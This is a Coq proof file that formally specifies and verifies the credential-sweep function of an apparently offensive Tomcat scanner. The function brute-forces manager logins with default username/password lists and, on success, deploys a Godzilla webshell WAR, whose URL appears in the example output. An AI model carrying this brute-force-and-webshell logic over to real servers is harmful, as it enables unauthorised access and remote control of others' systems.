(* ===== verification/Brute.v ===== *)
(** * Brute: the credential sweep

    [check_weak_password] (src/TomcatScan.py, lines 239-302): the double
    loop over user names and passwords inside a retry loop, the record of
    the first accepted pair and the deployment it triggers.

    [max_retries] and [retry_delay] are values of the configuration, as
    [detect_and_check] passes them.  [attempt < max_retries] raises
    [TypeError] the first time it is evaluated when [max_retries] is no
    integer, before any request: [check_weak_password] converts it there
    and the loop runs on the integer [limit].  [retry_delay] is looked at by
    [time.sleep] only.  The two settings of the deployment are passed on as
    they are read. *)

From stdpp Require Import gmap.
From S2P Require Import Prelude PyStr Url Config Effects Logic Scenario Deploy.

(** ** Definitions *)

(** The [headers] dictionary of the sweep. *)
Definition user_agent : string :=
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/58.0.3029.110 Safari/537.3".

(** [requests.get(url=url_with_path, auth=HTTPBasicAuth(username, password),
    headers=headers, timeout=10, verify=False)] *)
Definition login_request (url_with_path username password : string) : request :=
  {| req_verb := HGET; req_url := url_with_path;
     req_auth := Some (username, password); req_cookies := [];
     req_headers := [("User-Agent", user_agent)];
     req_data := None; req_files := None; req_timeout := 10 |}.

(** What [check_weak_password] returns: [None], or a tuple of the URL, the
    user name and the password, the last two [None] when no pair was
    accepted. *)
Abbreviation sweep_result := (option (string * option string * option string)).

(** The requests of a list of pairs, in order. *)
Definition login_requests (url_with_path : string) (pairs : list (string * string))
  : list event :=
  (λ '(username, password), Http (login_request url_with_path username password)) <$> pairs.

(** The line that records an accepted pair. *)
Definition success_line (url_with_path username password : string) : string :=
  url_with_path +:+ " " +:+ username +:+ ":" +:+ password +:+ nl.

Section brute.
Context {env : Env} {soup : Soup}.
Context (url : string) (usernames passwords : list string) (output_file : string)
        (max_retries retry_delay : yaml) (config : yaml).

(** The branch of an accepted pair: record it, build the archive, deploy. *)
Definition on_success (url_with_path username password : string) : prog () :=
  let success_entry := url_with_path +:+ " " +:+ username +:+ ":" +:+ password in
  file_append output_file (success_entry +:+ nl);;
  war ← generate_war config;
  match war with
  | Some (war_file_name, random_string, shell_file_name) =>
      deploy_retries ←
        lift_result (getitem3 config "retry" "deploy_godzilla_war" "max_retries");
      deploy_delay ←
        lift_result (getitem3 config "retry" "deploy_godzilla_war" "retry_delay");
      deploy_godzilla_war url_with_path username password war_file_name random_string
        shell_file_name output_file deploy_retries deploy_delay
  | None => mret ()
  end.

(** [for password in passwords: ...] for one user name: [Some] is the value
    of the [return], [None] the end of the list. *)
Fixpoint try_passwords (url_with_path username : string) (passwords : list string)
  : prog sweep_result :=
  match passwords with
  | [] => mret None
  | password :: rest =>
      response ← http (login_request url_with_path username password);
      if decide (status_code response = 200) then
        on_success url_with_path username password;;
        mret (Some (url_with_path, Some username, Some password))
      else try_passwords url_with_path username rest
  end.

(** [for username in usernames: ...] *)
Fixpoint try_usernames (url_with_path : string) (usernames : list string)
  : prog sweep_result :=
  match usernames with
  | [] => mret None
  | username :: rest =>
      r ← try_passwords url_with_path username passwords;
      match r with
      | Some found => mret (Some found)
      | None => try_usernames url_with_path rest
      end
  end.

(** The two statements after the loop. *)
Definition after_loop (limit attempt : Z) : prog sweep_result :=
  if decide (attempt = limit) then mret None
  else mret (Some (url, None, None)).

(** What one turn of the retry loop ends in. *)
Inductive turn : Type :=
  | Returned (r : sweep_result)   (* [return] inside the loops *)
  | Swept                          (* [break] after the last pair *)
  | Failed.                        (* the [except] branch *)

(** [while attempt < max_retries: try: ... except RequestException: ...]
    for [max_retries] the integer [limit]; [fuel] bounds the iterations and
    is never met from [fuel = limit - attempt] (see [sweep_loop_fuel]). *)
Fixpoint sweep_loop (limit : Z) (url_with_path : string) (fuel : nat) (attempt : Z)
  : prog sweep_result :=
  match fuel with
  | O => after_loop limit attempt
  | S fuel' =>
      if decide (attempt < limit) then
        t ← try_except
               (r ← try_usernames url_with_path usernames;
                mret (match r with Some found => Returned (Some found) | None => Swept end))
               is_RequestException
               (λ _, sleep retry_delay;; mret Failed);
        match t with
        | Returned r => mret r
        | Swept => after_loop limit attempt
        | Failed => sweep_loop limit url_with_path fuel' (attempt + 1)
        end
      else after_loop limit attempt
  end.

Definition check_weak_password : prog sweep_result :=
  limit ← lift_result (as_int max_retries);
  sweep_loop limit (url_with_path url) (Z.to_nat limit) 0.

(** The requests of one complete sweep, in the order of the two loops. *)
Definition sweep_requests (url_with_path : string) : list event :=
  login_requests url_with_path (list_prod usernames passwords).

(** What the history holds when a pair was accepted: its request answered
    with 200, and its line in the output file. *)
Definition accepted (url_with_path username password : string) (w : world) : Prop :=
  (∃ resp, status_code resp = 200 ∧
     (Http (login_request url_with_path username password), Ok (AResponse resp)) ∈ trace w) ∧
  (FileAppend output_file (success_line url_with_path username password), Ok AUnit) ∈ trace w.

(** ** The retry loop *)

Implicit Types (w : world) (fuel : nat) (attempt limit delay : Z) (uwp : string).

Lemma run_after_loop limit attempt w :
  run (after_loop limit attempt) w =
    (Ok (if decide (attempt = limit) then None else Some (url, None, None)), w).
Proof. unfold after_loop. by case_decide. Qed.

(** Past the last attempt the loop is over. *)
Lemma sweep_loop_done limit uwp fuel attempt :
  limit ≤ attempt → sweep_loop limit uwp fuel attempt = after_loop limit attempt.
Proof. intros. destruct fuel; [done|]. cbn [sweep_loop]. by rewrite decide_False by lia. Qed.

(** Before it the loop makes one sweep. *)
Lemma sweep_loop_S limit uwp fuel attempt :
  attempt < limit →
  sweep_loop limit uwp (S fuel) attempt =
    t ← try_except
           (r ← try_usernames uwp usernames;
            mret (match r with Some found => Returned (Some found) | None => Swept end))
           is_RequestException
           (λ _, sleep retry_delay;; mret Failed);
    match t with
    | Returned r => mret r
    | Swept => after_loop limit attempt
    | Failed => sweep_loop limit uwp fuel (attempt + 1)
    end.
Proof. intros. cbn [sweep_loop]. by rewrite decide_True. Qed.

(** C26. The loop needs no more fuel than the attempts that are left: the fuel
    [check_weak_password] gives it is never the reason it stops. *)
Theorem sweep_loop_fuel limit uwp fuel attempt :
  limit - attempt ≤ Z.of_nat fuel →
  sweep_loop limit uwp fuel attempt ≡ sweep_loop limit uwp (Z.to_nat (limit - attempt)) attempt.
Proof.
  revert attempt. induction fuel as [|fuel IH]; intros attempt Hf.
  { by rewrite !sweep_loop_done by lia. }
  destruct (decide (attempt < limit)); [|by rewrite !sweep_loop_done by lia].
  replace (Z.to_nat (limit - attempt))
    with (S (Z.to_nat (limit - (attempt + 1)))) by lia.
  rewrite !sweep_loop_S by done. apply bind_ext. intros [r| |]; [done..|]. apply IH. lia.
Qed.

(** One turn of the loop by what the sweep ends in: an accepted pair is
    returned, a complete sweep without one returns the URL alone, a
    transport error pauses and starts the sweep again from the first pair,
    and any other exception leaves the function. *)
Lemma sweep_loop_turn limit uwp fuel attempt w :
  attempt < limit →
  run (sweep_loop limit uwp (S fuel) attempt) w =
    match run (try_usernames uwp usernames) w with
    | (Ok (Some found), w1) => (Ok (Some found), w1)
    | (Ok None, w1) => (Ok (Some (url, None, None)), w1)
    | (Raise e, w1) =>
        if is_RequestException e
        then run (sleep retry_delay;; sweep_loop limit uwp fuel (attempt + 1)) w1
        else (Raise e, w1)
    end.
Proof.
  intros. rewrite sweep_loop_S, run_bind, run_try_except, run_bind by done.
  destruct (run (try_usernames uwp usernames) w) as [[[found|]|e] w1]; cbv beta iota.
  - done.
  - change (run (after_loop limit attempt) w1 = (Ok (Some (url, None, None)), w1)).
    rewrite run_after_loop. by rewrite decide_False by lia.
  - destruct (is_RequestException e); [|done]. rewrite !run_bind.
    by destruct (run (sleep retry_delay) w1) as [[[]|e'] w2].
Qed.

(** A pause that [time.sleep] accepts is one call. *)
Lemma run_pause delay {A} (p : prog A) w :
  retry_delay = YInt delay → 0 ≤ delay →
  run (sleep retry_delay;; p) w = run p (logged w (Sleep delay) (Ok AUnit)).
Proof. intros -> ?. by rewrite run_bind, run_sleep. Qed.

(** C31. With [max_retries = 0] the target is reported unreachable without a
    single request. *)
Theorem check_zero_retries w :
  max_retries = YInt 0 → run check_weak_password w = (Ok None, w).
Proof.
  intros Hz. unfold check_weak_password. rewrite run_lift_bind, Hz. cbn [as_int Z.to_nat].
  rewrite sweep_loop_done, run_after_loop by lia. by rewrite decide_True.
Qed.

(** A [max_retries] that is no integer raises [TypeError] before any
    request. *)
Lemma check_weak_password_untyped w :
  (∀ z, max_retries ≠ YInt z) → run check_weak_password w = (Raise TypeError, w).
Proof.
  intros Hm. unfold check_weak_password. rewrite run_lift_bind.
  by destruct max_retries; [..|destruct (Hm z)|].
Qed.

(** ** Starting again *)

(** A sweep, and a turn of the loop, start with the request of the first
    pair. *)
Lemma first_call_try_usernames uwp username password us ps :
  usernames = username :: us → passwords = password :: ps →
  first_call (try_usernames uwp usernames)
    = Some (Http (login_request uwp username password)).
Proof. intros -> Hp. cbn [try_usernames]. by rewrite Hp. Qed.

Lemma first_call_sweep_loop limit uwp username password us ps fuel attempt :
  usernames = username :: us → passwords = password :: ps → attempt < limit →
  first_call (sweep_loop limit uwp (S fuel) attempt)
    = Some (Http (login_request uwp username password)).
Proof.
  intros. rewrite sweep_loop_S by done.
  by erewrite first_call_bind;
    [|eapply first_call_try_except, first_call_bind, first_call_try_usernames].
Qed.

(** C4. A transport error at any pair ends the sweep; when an attempt is left,
    the function pauses and then requests the first pair again, not the pair
    after the one that failed.  The pause is [time.sleep(retry_delay)] for a
    delay it accepts. *)
Theorem sweep_restarts limit delay uwp username password us ps fuel attempt w w1 :
  retry_delay = YInt delay → 0 ≤ delay →
  usernames = username :: us → passwords = password :: ps →
  attempt + 1 < limit →
  run (try_usernames uwp usernames) w = (Raise RequestException, w1) →
  calls w1 ++ [Sleep delay; Http (login_request uwp username password)]
    `prefix_of` calls (run (sweep_loop limit uwp (S (S fuel)) attempt) w).2.
Proof.
  intros Hd Hpos Hu Hp Hlt Hfail. rewrite sweep_loop_turn, Hfail by lia. cbv beta iota.
  rewrite (run_pause delay) by done.
  rewrite cons_middle, (assoc_L (++)), <-(calls_logged _ _ (Ok AUnit)).
  eapply run_first_call, first_call_sweep_loop; [done..|lia].
Qed.

(** C32. With a negative [retry_delay] the pause raises [ValueError] inside the
    [except] branch: the first transport error ends the function, whatever
    attempts are left. *)
Theorem sweep_negative_delay limit delay uwp fuel attempt w w1 :
  retry_delay = YInt delay → delay < 0 → attempt < limit →
  run (try_usernames uwp usernames) w = (Raise RequestException, w1) →
  run (sweep_loop limit uwp (S fuel) attempt) w
    = (Raise ValueError, logged w1 (Sleep delay) (Raise ValueError)).
Proof.
  intros Hd Hneg Hlt Hfail. rewrite sweep_loop_turn, Hfail by lia. cbv beta iota.
  by rewrite Hd, run_bind, run_sleep_negative.
Qed.

(** ** An accepted pair *)

(** [on_success] returns only when the line was written. *)
Lemma on_success_recorded uwp username password w w' :
  run (on_success uwp username password) w = (Ok (), w') →
  (FileAppend output_file (success_line uwp username password), Ok AUnit) ∈ trace w'.
Proof.
  unfold on_success. intros ([] & w1 & ->%file_append_Ok & Hrest)%run_bind_Ok_inv.
  eapply run_trace_elem_of; [done|]. unfold success_line. rewrite !sapp_assoc. by left.
Qed.

Lemma try_passwords_found uwp username ps w found w' :
  run (try_passwords uwp username ps) w = (Ok (Some found), w') →
  ∃ password, found = (uwp, Some username, Some password) ∧ password ∈ ps ∧
    accepted uwp username password w'.
Proof.
  revert w. induction ps as [|password ps IH]; intros w; [done|].
  cbn [try_passwords]. rewrite run_bind, run_http.
  destruct (env_http _ _) as [resp|]; [|done]. case_decide as H200.
  - rewrite run_bind.
    destruct (run (on_success _ _ _) _) as [[[]|e] w1] eqn:Hs; [|done].
    intros [= <- <-]. exists password. split; [done|]. split; [by left|].
    split; [|by eapply on_success_recorded].
    exists resp. split; [done|]. eapply run_trace_elem_of; [done|]. by left.
  - intros (pw & -> & Hin & Hacc)%IH. exists pw. split; [done|]. split; [by right|done].
Qed.

Lemma try_usernames_found uwp us w found w' :
  run (try_usernames uwp us) w = (Ok (Some found), w') →
  ∃ username password, found = (uwp, Some username, Some password) ∧
    username ∈ us ∧ password ∈ passwords ∧ accepted uwp username password w'.
Proof.
  revert w. induction us as [|username us IH]; intros w; [done|].
  cbn [try_usernames]. rewrite run_bind.
  destruct (run (try_passwords _ _ _) w) as [[[found'|]|e] w1] eqn:Hp; [| |done].
  - intros [= <- <-]. apply try_passwords_found in Hp as (pw & -> & ? & ?).
    exists username, pw. split; [done|]. split; [by left|done].
  - intros (u & pw & -> & ? & ? & ?)%IH. exists u, pw. split; [done|]. split; [by right|done].
Qed.

Lemma sweep_loop_found limit uwp fuel attempt w u username password w' :
  run (sweep_loop limit uwp fuel attempt) w = (Ok (Some (u, Some username, Some password)), w') →
  u = uwp ∧ username ∈ usernames ∧ password ∈ passwords ∧ accepted uwp username password w'.
Proof.
  revert attempt w. induction fuel as [|fuel IH]; intros attempt w.
  { cbn [sweep_loop]. rewrite run_after_loop. by case_decide. }
  destruct (decide (attempt < limit));
    [|rewrite sweep_loop_done, run_after_loop by lia; by case_decide].
  rewrite sweep_loop_turn by done.
  destruct (run (try_usernames uwp usernames) w) as [[[found|]|e] w1] eqn:Hs; [|done|].
  - intros [= -> <-]. by apply try_usernames_found in Hs as (? & ? & [= <- <- <-] & ?).
  - destruct (is_RequestException e); [|done].
    intros ([] & w2 & _ & Hloop)%run_bind_Ok_inv. by eapply IH.
Qed.

(** C2. A pair [check_weak_password] returns is a pair of the two lists that
    the server answered with 200 on the manager URL, and its line is in the
    output file. *)
Theorem check_found w u username password w' :
  run check_weak_password w = (Ok (Some (u, Some username, Some password)), w') →
  u = url_with_path url ∧ username ∈ usernames ∧ password ∈ passwords ∧
  accepted (url_with_path url) username password w'.
Proof.
  unfold check_weak_password. rewrite run_lift_bind.
  destruct (as_int max_retries) as [limit|e]; [apply sweep_loop_found|done].
Qed.

(** ** The exceptions of the sweep *)

(** What may leave the function: a key the configuration lacks, a setting of
    the wrong type, a refusal of the operating system, a negative delay, a
    [files] section that is no dictionary. *)
Definition escapes (e : exn) : Prop :=
  e = KeyError ∨ e = TypeError ∨ e = OSError ∨ e = ValueError ∨ attribute_error config e.

Lemma limit_error_escapes v e : limit_error v e → escapes e.
Proof. intros ->%limit_error_TypeError. unfold escapes. auto. Qed.

Lemma delay_error_escapes v e : delay_error v e → escapes e.
Proof. unfold escapes. destruct v; simpl; naive_solver. Qed.

Lemma raises_only_on_success uwp username password :
  raises_only escapes (on_success uwp username password).
Proof.
  unfold on_success. solve_raises.
  - eapply raises_only_weaken; [|apply raises_only_generate_war].
    unfold escapes. naive_solver.
  - intros ?%getitem3_raises. unfold escapes. tauto.
  - intros ?%getitem3_raises. unfold escapes. tauto.
  - eapply raises_only_weaken; [|apply raises_only_deploy].
    intros e [->|[->|[?%limit_error_escapes|?%delay_error_escapes]]];
      unfold escapes; auto.
Qed.

Lemma raises_only_try_passwords uwp username ps :
  raises_only (λ e, if is_RequestException e then True else escapes e)
    (try_passwords uwp username ps).
Proof.
  induction ps as [|password ps IH]; cbn [try_passwords]; solve_raises; [|done].
  eapply raises_only_weaken; [|apply raises_only_on_success].
  intros e. by destruct (is_RequestException e).
Qed.

Lemma raises_only_try_usernames uwp us :
  raises_only (λ e, if is_RequestException e then True else escapes e)
    (try_usernames uwp us).
Proof.
  induction us as [|username us IH]; cbn [try_usernames]; solve_raises;
    [apply raises_only_try_passwords|done].
Qed.

Lemma raises_only_sweep_loop limit uwp fuel attempt :
  raises_only escapes (sweep_loop limit uwp fuel attempt).
Proof.
  revert attempt. induction fuel as [|fuel IH]; intros attempt; cbn [sweep_loop];
    unfold after_loop; solve_raises;
    [apply raises_only_try_usernames|by eapply delay_error_escapes|apply IH].
Qed.

Lemma raises_only_check_weak_password : raises_only escapes check_weak_password.
Proof.
  unfold check_weak_password. apply raises_only_lift_bind.
  - intros e ?%as_int_raises. by eapply limit_error_escapes.
  - intros limit _. apply raises_only_sweep_loop.
Qed.

(** C20. A transport error never leaves [check_weak_password].  What can are
    [KeyError] and [TypeError] (a setting that is missing or of the wrong
    type), [OSError] (a file operation), [ValueError] (a negative delay)
    and [AttributeError] (a [files] section that is no dictionary). *)
Theorem check_raises : raises_only escapes check_weak_password.
Proof. apply raises_only_check_weak_password. Qed.

(** ** The footprint of the sweep *)

Lemma on_success_footprint uwp username password :
  emits (footprint output_file) (on_success uwp username password).
Proof.
  unfold on_success.
  apply emits_bind; [by apply emits_call; split; [|apply whole_line_nl]|intros _].
  apply emits_bind_returns; [apply generate_war_footprint|].
  intros [[[war rs] shell]|] Hwar; [|constructor].
  apply generate_war_returns in Hwar as ->. solve_emits.
  apply deploy_footprint. by eexists.
Qed.

Lemma try_usernames_footprint uwp us :
  emits (footprint output_file) (try_usernames uwp us).
Proof.
  assert (∀ username ps, emits (footprint output_file) (try_passwords uwp username ps))
    as Hpasswords.
  { intros username ps. induction ps as [|password ps IH]; cbn [try_passwords];
      solve_emits; [apply on_success_footprint|apply IH]. }
  induction us as [|username us IH]; cbn [try_usernames]; solve_emits; auto.
Qed.

Lemma sweep_loop_footprint limit uwp fuel attempt :
  emits (footprint output_file) (sweep_loop limit uwp fuel attempt).
Proof.
  revert attempt. induction fuel as [|fuel IH]; intros attempt; cbn [sweep_loop];
    unfold after_loop; solve_emits; [apply try_usernames_footprint|apply IH].
Qed.

Lemma check_weak_password_footprint :
  emits (footprint output_file) check_weak_password.
Proof. unfold check_weak_password. solve_emits. apply sweep_loop_footprint. Qed.

(** ** A server that rejects every pair *)

Section rejected.
Hypothesis Hdeny : ∀ h req, ∃ resp, env_http h req = Some resp ∧ status_code resp ≠ 200.

Lemma try_passwords_rejected uwp username ps w :
  ∃ w', run (try_passwords uwp username ps) w = (Ok None, w') ∧ fs w' = fs w ∧
    calls w' = calls w ++ login_requests uwp ((username,.) <$> ps).
Proof.
  revert w. induction ps as [|password ps IH]; intros w.
  { exists w. by rewrite app_nil_r. }
  cbn [try_passwords]. rewrite run_bind, run_http.
  destruct (Hdeny (trace w) (login_request uwp username password)) as (resp & -> & ?).
  rewrite decide_False by done.
  destruct (IH (logged w (Http (login_request uwp username password)) (Ok (AResponse resp))))
    as (w' & -> & Hfs & Hc).
  exists w'. by rewrite Hfs, Hc, calls_logged, <-app_assoc.
Qed.

Lemma try_usernames_rejected uwp us w :
  ∃ w', run (try_usernames uwp us) w = (Ok None, w') ∧ fs w' = fs w ∧
    calls w' = calls w ++ login_requests uwp (list_prod us passwords).
Proof.
  revert w. induction us as [|username us IH]; intros w.
  { exists w. by rewrite app_nil_r. }
  cbn [try_usernames]. rewrite run_bind.
  destruct (try_passwords_rejected uwp username passwords w) as (w1 & -> & Hfs1 & Hc1).
  destruct (IH w1) as (w' & -> & Hfs & Hc). exists w'.
  rewrite Hfs, Hfs1, Hc, Hc1. unfold login_requests. simpl.
  by rewrite fmap_app, app_assoc.
Qed.

(** C11. With a count that is a positive integer, against a server that answers
    every pair and accepts none, one sweep tries every pair once, user names
    outside and passwords inside, touches no file, and returns the URL it
    was given with no credentials. *)
Theorem check_exhausted limit w :
  max_retries = YInt limit → 0 < limit →
  ∃ w', run check_weak_password w = (Ok (Some (url, None, None)), w') ∧ fs w' = fs w ∧
    calls w' = calls w ++ sweep_requests (url_with_path url).
Proof.
  intros Hl **. unfold check_weak_password. rewrite run_lift_bind, Hl. cbn [as_int].
  replace (Z.to_nat limit) with (S (Z.to_nat (limit - 1))) by lia.
  rewrite sweep_loop_turn by done.
  destruct (try_usernames_rejected (url_with_path url) usernames w) as (w' & -> & ? & ?).
  by exists w'.
Qed.
End rejected.

(** ** A server that cannot be reached *)

Section unreachable.
Hypothesis Hdown : ∀ h req, env_http h req = None.
Context (username password : string) (us ps : list string).
Hypothesis Husers : usernames = username :: us.
Hypothesis Hpasswords : passwords = password :: ps.

(** A sweep stops at its first request. *)
Lemma try_usernames_down uwp w :
  run (try_usernames uwp usernames) w =
    (Raise RequestException,
     logged w (Http (login_request uwp username password)) (Raise RequestException)).
Proof.
  rewrite Husers. cbn [try_usernames]. rewrite Hpasswords. cbn [try_passwords].
  by rewrite !run_bind, run_http, Hdown.
Qed.

Lemma sweep_loop_down limit delay uwp fuel attempt w :
  retry_delay = YInt delay → 0 ≤ delay →
  fuel = Z.to_nat (limit - attempt) → attempt ≤ limit →
  ∃ w', run (sweep_loop limit uwp fuel attempt) w = (Ok None, w') ∧ fs w' = fs w ∧
    calls w' = calls w ++
      mjoin (replicate fuel [Http (login_request uwp username password); Sleep delay]).
Proof.
  intros Hd Hpos. revert attempt w. induction fuel as [|fuel IH]; intros attempt w Hf Hle.
  { exists w. rewrite sweep_loop_done, run_after_loop, decide_True by lia.
    by rewrite app_nil_r. }
  rewrite sweep_loop_turn, try_usernames_down by lia. cbv beta iota.
  rewrite (run_pause delay) by done.
  edestruct (IH (attempt + 1)) as (w' & -> & Hfs & Hc); [lia..|].
  exists w'. by rewrite Hfs, Hc, !calls_logged, <-!app_assoc.
Qed.

(** C12. Against a server that cannot be reached the function requests the
    first pair [max_retries] times, pauses after each, the last included,
    and reports the target unreachable.  The pauses are those of a delay
    [time.sleep] accepts. *)
Theorem check_unreachable limit delay w :
  max_retries = YInt limit → retry_delay = YInt delay → 0 ≤ limit → 0 ≤ delay →
  ∃ w', run check_weak_password w = (Ok None, w') ∧ fs w' = fs w ∧
    calls w' = calls w ++
      mjoin (replicate (Z.to_nat limit)
               [Http (login_request (url_with_path url) username password);
                Sleep delay]).
Proof.
  intros Hl **. unfold check_weak_password. rewrite run_lift_bind, Hl. cbn [as_int].
  apply sweep_loop_down; [done..|f_equal; lia|lia].
Qed.
End unreachable.
End brute.

(** ** The sweep on concrete inputs *)

(** Two user names and five passwords against the manager URL of a target. *)
Definition sample_users : list string := ["admin"; "tomcat"].
Definition sample_passwords : list string := ["admin"; "123456"; "tomcat"; "s3cret"; "root"].
Definition sample_url : string := "http://10.0.0.2:8080/manager/html".

Definition sample_sweep_with (max_retries retry_delay : yaml) : prog sweep_result :=
  @check_weak_password soup_named sample_url sample_users sample_passwords "success.txt"
    max_retries retry_delay sample_config.
Definition sample_sweep (max_retries : Z) : prog sweep_result :=
  sample_sweep_with (YInt max_retries) (YInt 1).

(** The loop of that sweep for [limit] attempts. *)
Definition sample_loop (limit : Z) (fuel : nat) : prog sweep_result :=
  @sweep_loop soup_named sample_url sample_users sample_passwords "success.txt" (YInt 1)
    sample_config limit sample_url fuel 0.

Lemma sweep_loop_fuel_witness :
  @equiv _ (@prog_equiv (scenario up (always 401) permissive) _)
    (sample_loop 3 7) (sample_loop 3 (Z.to_nat (3 - 0))).
Proof.
  apply (sweep_loop_fuel (env:=scenario up (always 401) permissive) (soup:=soup_named)
           sample_url sample_users sample_passwords "success.txt" (YInt 1) sample_config
           3 sample_url 7 0).
  simpl. lia.
Defined.

Lemma check_zero_retries_witness :
  @run (scenario up (tomcat "tomcat" "tomcat") permissive) _ (sample_sweep 0) initial
  = (Ok None, initial).
Proof.
  by apply (check_zero_retries (env:=scenario up (tomcat "tomcat" "tomcat") permissive)
              (soup:=soup_named) sample_url sample_users sample_passwords "success.txt"
              (YInt 0) (YInt 1) sample_config initial).
Defined.

Lemma check_found_witness :
  sample_url = url_with_path sample_url ∧ "tomcat" ∈ sample_users ∧
  "tomcat" ∈ sample_passwords ∧
  @accepted "success.txt" (url_with_path sample_url) "tomcat" "tomcat"
    (@run (scenario up (tomcat "tomcat" "tomcat") permissive) _ (sample_sweep 3) initial).2.
Proof.
  apply (check_found (env:=scenario up (tomcat "tomcat" "tomcat") permissive)
           (soup:=soup_named) sample_url sample_users sample_passwords "success.txt"
           (YInt 3) (YInt 1) sample_config initial).
  by vm_compute.
Defined.

Lemma check_exhausted_witness :
  ∃ w', @run (scenario up (always 401) permissive) _ (sample_sweep 3) initial
        = (Ok (Some (sample_url, None, None)), w') ∧ fs w' = fs initial ∧
    calls w' = calls initial ++
      sweep_requests sample_users sample_passwords (url_with_path sample_url).
Proof.
  refine (check_exhausted (env:=scenario up (always 401) permissive) (soup:=soup_named)
            sample_url sample_users sample_passwords "success.txt" (YInt 3) (YInt 1)
            sample_config _ 3 initial _ _); [|done..].
  intros h req. by exists (always 401 req).
Defined.

Lemma check_unreachable_witness :
  ∃ w', @run (scenario down (always 401) permissive) _ (sample_sweep 3) initial
        = (Ok None, w') ∧ fs w' = fs initial ∧
    calls w' = calls initial ++
      mjoin (replicate (Z.to_nat 3)
               [Http (login_request (url_with_path sample_url) "admin" "admin"); Sleep 1]).
Proof.
  by refine (check_unreachable (env:=scenario down (always 401) permissive)
               (soup:=soup_named) sample_url sample_users sample_passwords "success.txt"
               (YInt 3) (YInt 1) sample_config _ "admin" "admin" ["tomcat"]
               (tail sample_passwords) _ _ 3 1 initial _ _ _ _).
Defined.

(** A transport error at the fourth of the ten pairs. *)
Lemma sweep_restarts_witness :
  calls (@run (scenario (down_at 3) (always 401) permissive) _
           (@try_usernames soup_named sample_passwords "success.txt" sample_config
              sample_url sample_users) initial).2
    ++ [Sleep 1; Http (login_request sample_url "admin" "admin")]
  `prefix_of`
  calls (@run (scenario (down_at 3) (always 401) permissive) _ (sample_loop 3 2) initial).2.
Proof.
  apply (sweep_restarts (env:=scenario (down_at 3) (always 401) permissive)
           (soup:=soup_named) sample_url sample_users sample_passwords "success.txt"
           (YInt 1) sample_config 3 1 sample_url "admin" "admin" ["tomcat"]
           (tail sample_passwords) 0 0 initial);
    [done..|by vm_compute].
Defined.

Lemma sweep_negative_delay_witness :
  ∃ w', @run (scenario down (always 401) permissive) _
          (@sweep_loop soup_named sample_url sample_users sample_passwords "success.txt"
             (YInt (-1)) sample_config 3 sample_url 1 0) initial
        = (Raise ValueError, w').
Proof.
  eexists.
  apply (sweep_negative_delay (env:=scenario down (always 401) permissive)
           (soup:=soup_named) sample_url sample_users sample_passwords "success.txt"
           (YInt (-1)) sample_config 3 (-1) sample_url 0 0 initial);
    [done..|by vm_compute].
Defined.

(** The calls of that run: three pairs answered, the fourth lost, a pause,
    then all ten from the first. *)
Example sweep_restarts_from_first_pair :
  let rw := @run (scenario (down_at 3) (always 401) permissive) _ (sample_sweep 3) initial in
  rw.1 = Ok (Some (sample_url, None, None)) ∧
  calls rw.2 =
    take 4 (sweep_requests sample_users sample_passwords sample_url)
    ++ [Sleep 1] ++ sweep_requests sample_users sample_passwords sample_url.
Proof. by vm_compute. Qed.

(** The accepted pair on a server for [tomcat:tomcat]: the sweep stops at
    the eighth pair, and the output file holds the line of the pair and the
    line of the shell. *)
Example sweep_end_to_end :
  let rw := @run (scenario up (tomcat "tomcat" "tomcat") permissive) _ (sample_sweep 3)
              initial in
  rw.1 = Ok (Some (sample_url, Some "tomcat", Some "tomcat")) ∧
  count is_http rw.2 = 11%nat ∧
  map_to_list (fs rw.2) = [("success.txt", TextFile
    ("http://10.0.0.2:8080/manager/html tomcat:tomcat" +:+ nl +:+
     "http://10.0.0.2:8080 tomcat:tomcat - Webshell: http://10.0.0.2:8080/jklmno/pqrstu.jsp"
     +:+ nl))].
Proof. vm_compute. by repeat split. Qed.

(** A disk that refuses the output file: [OSError] leaves the function. *)
Example sweep_raises_OSError :
  (@run (scenario up (tomcat "tomcat" "tomcat") (read_only "success.txt")) _
     (sample_sweep 3) initial).1 = Raise OSError.
Proof. by vm_compute. Qed.

(** A negative [retry_delay] and a server that cannot be reached: the pause
    after the first request raises [ValueError], and no second attempt is
    made. *)
Example sweep_raises_ValueError :
  let rw := @run (scenario down (always 401) permissive) _
              (sample_sweep_with (YInt 3) (YInt (-1))) initial in
  rw.1 = Raise ValueError ∧ count is_http rw.2 = 1%nat.
Proof. by vm_compute. Qed.

(** A [max_retries] that is a string raises [TypeError] before any request;
    a [retry_delay] that is a string is not looked at until a transport
    error makes the function pause. *)
Example sweep_untyped_settings :
  let E := scenario up (always 401) permissive in
  let D := scenario down (always 401) permissive in
  @run E _ (sample_sweep_with (YStr "3") (YInt 1)) initial = (Raise TypeError, initial) ∧
  (@run E _ (sample_sweep_with (YInt 3) (YStr "1")) initial).1
    = Ok (Some (sample_url, None, None)) ∧
  (@run D _ (sample_sweep_with (YInt 3) (YStr "1")) initial).1 = Raise TypeError.
Proof. by vm_compute. Qed.
